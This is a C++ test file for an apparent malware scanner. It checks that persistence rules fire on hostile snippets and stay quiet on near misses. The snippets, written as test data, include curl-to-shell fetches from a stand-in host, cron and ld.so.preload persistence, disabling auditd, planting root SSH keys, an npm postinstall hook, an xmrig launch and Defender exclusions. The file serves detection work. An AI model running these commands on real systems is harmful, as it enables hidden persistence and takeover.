// The shipped rules about persistence, over their indicators and over near misses.

#include "base/file.h"
#include "scan/pack_test.h"

namespace assay {
namespace {

TEST_CASE("scripts that fetch and run") {
  const std::string pipe = text_of("curl -s https://x.example/y ", "| sh\n");
  CHECK(fires("PERSIST001", "b.deb!/control.tar.xz!/postinst", "#!/bin/sh\n" + pipe));
  CHECK(fires("DUAL040", "get.sh", "#!/bin/sh\n" + pipe));
  CHECK(is_quiet("get.sh", "#!/bin/sh\n" + pipe));
  CHECK(is_quiet("README.md", pipe));
  CHECK(is_quiet("postinst", "#!/bin/sh\ncurl -o /tmp/x https://x.example | tee log\n"));
  CHECK(fires("PERSIST002", "x.sh", "#!/bin/sh\necho '* * * * * " + pipe + "' | crontab -\n"));
  CHECK(fires("PERSIST002", "b!/etc/cron.d/x", "*/5 * * * * root " + pipe));
  CHECK(fires("PERSIST008", "x.sh", text_of("#!/bin/sh\necho eA== | base64 -d ", "| bash\n")));
  CHECK(is_quiet("x.sh", "#!/bin/sh\necho eA== | base64 -d > out\n"));
}

TEST_CASE("scripts that stay and blind") {
  CHECK(fires("PERSIST003", "x.sh",
              text_of("#!/bin/sh\necho /x.so >> /etc/ld.so", ".preload\n")));
  CHECK(is_quiet("x.sh", text_of("#!/bin/sh\ncat /etc/ld.so", ".preload\n")));
  const std::string unit = "[Unit]\nDescription=x\n[Service]\nExecStart=";
  CHECK(fires("PERSIST004", "x.service", unit + text_of("/dev/", "shm/x\n")));
  CHECK(is_quiet("x.service", unit + "/usr/bin/x\nPrivateTmp=yes\n"));
  const std::string stop = text_of("systemctl stop ", "auditd\n");
  CHECK(fires("PERSIST005", "x.sh", "#!/bin/sh\n" + stop + text_of("history", " -c\n")));
  CHECK(is_quiet("x.sh", "#!/bin/sh\n" + stop));
  CHECK(is_quiet("x.sh", "#!/bin/sh\nsetenforce 0\nufw disable\niptables -F\n"));
  CHECK(fires(
      "PERSIST011", "postinst",
      "#!/bin/sh\necho ssh-rsa AAAAB3 >> /root/.ssh/author" + std::string("ized_keys\n")));
  CHECK_FALSE(fires("PERSIST011", "postinst",
                    "#!/bin/sh\nchmod 600 /root/.ssh/author" + std::string("ized_keys\n")));
}

TEST_CASE("npm install hooks") {
  const std::string pipe = text_of("curl -s https://x.example/y ", "| sh");
  CHECK(fires("PERSIST006", "package/package.json",
              "{\"scripts\": {\"postinstall\": \"" + pipe + "\"}}"));
  CHECK(is_quiet("package/package.json", "{\"scripts\": {\"test\": \"" + pipe + "\"}}"));
  CHECK(is_quiet("package/package.json",
                 "{\"scripts\": {\"install\": \"node-gyp rebuild\", \"x\": \"y\"}}"));
  CHECK(fires("PERSIST007", "package/package.json",
              "{\"scripts\": {\"start\": \"./xm" + std::string("rig -o p\"}}")));
  CHECK_FALSE(fires(
      "PERSIST007", "package/package.json",
      "{\"scripts\": {\"start\": \"node .\"}, \"keywords\": [\"xm" + std::string("rig\"]}")));
}

TEST_CASE("Windows scripts") {
  const std::string fetch = "(New-Object Net.WebClient).Download" + std::string("String('x')");
  CHECK(fires("PERSIST009", "x.ps1", fetch + " -WindowStyle" + " Hidden"));
  CHECK(is_quiet("x.ps1", fetch));
  CHECK(fires("PERSIST010", "x.ps1", text_of("add-mp", "preference -exclusionpath c:\\")));
  CHECK(is_quiet("x.ps1", "get-mppreference"));
}

TEST_CASE("every shipped rule is tried in one of these files") {
  std::string tests;
  for (const std::string_view topic :
       {"miner", "injector", "persistence", "structure", "installer"}) {
    tests +=
        read_file(ASSAY_SOURCE_DIR "/lib/scan/pack_" + std::string(topic) + "_test.cc").take();
  }
  for (const RuleMeta& rule : pack().rules()) {
    CAPTURE(rule.id);
    CHECK(tests.find("\"" + rule.id + "\"") != std::string::npos);
  }
}

TEST_CASE("a sample cut short anywhere scans without error") {
  const std::string sample = elf(kConstants + kWords + kInject);
  Scanner scanner(pack());
  for (std::size_t size = 0; size <= sample.size(); ++size) {
    CHECK(scanner.scan({}, as_bytes(sample).first(size)));
  }
}

}  // namespace
}  // namespace assay
